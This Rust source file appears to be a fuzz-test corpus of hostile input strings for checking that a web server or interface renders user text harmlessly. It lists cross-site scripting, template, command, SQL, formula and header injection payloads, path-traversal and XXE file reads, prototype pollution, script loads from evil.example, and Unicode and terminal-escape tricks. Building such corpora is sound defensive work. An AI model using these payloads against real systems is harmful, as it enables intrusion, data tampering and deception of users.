//! What the server says, and what people type.

/// What a harmless server says in place of each.
pub const HARMLESS: &str = "a harmless text";

/// Markup and code: `window.ran = 1` tells that it worked. One a line.
const MARKUP: &str = r#"<script>window.ran=1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>window.ran=1</scr</script>ipt>
<script/src=data:,window.ran=1></script>
"><script>window.ran=1</script>
'><script>window.ran=1</script>
</title><script>window.ran=1</script>
</textarea><script>window.ran=1</script>
</style><script>window.ran=1</script>
</script><script>window.ran=1</script>
--><script>window.ran=1</script>
]]><script>window.ran=1</script>
<!--><img src=x onerror=window.ran=1>-->
<img src=x onerror=window.ran=1>
<img src=x onerror="window.ran=1">
<img/src=x/onerror=window.ran=1>
<img src=`x` onerror=window.ran=1>
<IMG """><SCRIPT>window.ran=1</SCRIPT>">
<img src=javascript:window.ran=1>
<image href=x onerror=window.ran=1>
<svg onload=window.ran=1>
<svg/onload=window.ran=1//
<svg><script>window.ran=1</script></svg>
<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>
<svg><a xlink:href=javascript:window.ran=1><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x">
<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>
<math href=javascript:window.ran=1>x</math>
<iframe src=javascript:window.ran=1></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data=javascript:window.ran=1></object>
<embed src=javascript:window.ran=1>
<video><source onerror=window.ran=1></video>
<audio src=x onerror=window.ran=1>
<body onload=window.ran=1>
<input autofocus onfocus=window.ran=1>
<select autofocus onfocus=window.ran=1>
<details open ontoggle=window.ran=1>
<marquee onstart=window.ran=1>
<form action=javascript:window.ran=1><input type=submit>
<button formaction=javascript:window.ran=1>x
<isindex type=image src=1 onerror=window.ran=1>
<a href=javascript:window.ran=1>click</a>
<a href="&#106;avascript:window.ran=1">click</a>
<a href="java&#10;script:window.ran=1">click</a>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>*{display:none}</style>
<style>@import '//evil.example/x.css';</style>
<div style="position:fixed;inset:0;background:red">gone</div>
<div style=width:expression(window.ran=1)>
<table background=javascript:window.ran=1>
<template><script>window.ran=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>">
<xmp><script>window.ran=1</script></xmp>
<plaintext>
<textarea>
<dialog open>gone</dialog>
<slot name=x>
<custom-element onclick=window.ran=1>
<x contenteditable onblur=window.ran=1>
javascript:window.ran=1
JaVaScRiPt:window.ran=1
data:text/html,<script>window.ran=1</script>
vbscript:msgbox(1)
&lt;script&gt;window.ran=1&lt;/script&gt;
&#60;script&#62;window.ran=1&#60;/script&#62;
%3Cscript%3Ewindow.ran=1%3C/script%3E
\u003cscript\u003ewindow.ran=1\u003c/script\u003e
\x3cscript\x3ewindow.ran=1
<%00script>window.ran=1</script>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.ran=1</script></x>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>
${window.ran=1}
`${window.ran=1}`
{{window.ran=1}}
{{constructor.constructor('window.ran=1')()}}
{{7*7}}
#{7*7}
<%= 7*7 %>
{%7*7%}
[[${7*7}]]
@(1+1)
$(touch /tmp/x)
`touch /tmp/x`
; touch /tmp/x
| touch /tmp/x
&& touch /tmp/x
'; window.ran=1; //
"; window.ran=1; //
\"; window.ran=1; //
'-window.ran=1-'
");window.ran=1;//
onerror=window.ran=1
" onmouseover="window.ran=1
' onfocus='window.ran=1' autofocus='
" style="position:fixed;inset:0
" autofocus onfocus="window.ran=1" x="
?lit$123$
<!--?lit$123456789$-->
{{lit-1}}
<!--lit-part-->
$lit$
.innerHTML=window.ran=1
@click=${window.ran=1}
__proto__
constructor
prototype
toString
hasOwnProperty
{"__proto__":{"polluted":1}}
'; DROP TABLE tokens; --
' OR '1'='1
../../../../etc/passwd
..\..\windows\win.ini
file:///etc/passwd
\\evil.example\share
%s%s%s%n%n%n
{0}{1}{2}
null
undefined
NaN
[object Object]
true
-1
1e999
=cmd|' /C calc'!A0
+1+1
@SUM(1+1)
http://evil.example/
https://acme.kinde.com@evil.example/
mailto:x@evil.example?subject=x
:root{--x:url(//evil.example)}
*{color:red}
url(javascript:window.ran=1)
expression(window.ran=1)
@import url(//evil.example)
</div></main></body></html>
<div><div><div><div>
<b>bold</b>
<h1>Your token has been stolen. Call 0800 000</h1>"#;

/// Characters that act on the reader or the screen.
const CHARACTERS: [&str; 34] = [
    "\u{202e}gnp.exe",
    "safe\u{202e}txt.exe\u{202c}",
    "\u{2066}isolate\u{2069}\u{2067}isolate",
    "\u{202a}\u{202b}\u{202d}nested",
    "\u{200f}\u{200e}\u{061c}marks",
    "zero\u{200b}width\u{200c}\u{200d}\u{2060}\u{feff}",
    "soft\u{00ad}hyphen",
    "аdmin (in another script)",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "\u{0}NUL\u{0}",
    "bell\u{7}back\u{8}form\u{c}vertical\u{b}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mC1",
    "line\nbreak",
    "carriage\rreturn",
    "both\r\nSet-Cookie: x=1",
    "tab\tand\u{2028}separators\u{2029}",
    "\u{85}next line",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}",
    "𒐫𒐫𒐫𒐫𒐫𒐫𒐫𒐫",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿",
    "العربية مع English وأرقام 123",
    "עברית \u{202e}english",
    "\u{e0041}\u{e0042}tags",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "\u{10ffff}\u{f8ff}private",
    "I\u{307}İıßẞ",
    "\u{1d173}\u{1d174}music",
    "\u{3164}\u{115f}\u{1160}filler",
    "\u{2800}\u{2800}\u{2800}blank",
];

/// Every hostile string, one of them huge, one without any place to break a line.
pub fn hostile() -> Vec<String> {
    let mut all: Vec<String> = MARKUP.lines().map(str::to_owned).collect();
    all.extend(CHARACTERS.map(str::to_owned));
    all.push("W".repeat(600));
    all.push("<b>huge</b> ".repeat(400));
    all.push("\u{202e}".repeat(300));
    all.push(String::new());
    all.push(" ".to_owned());
    assert!(all.len() >= 150, "{}", all.len());
    all
}
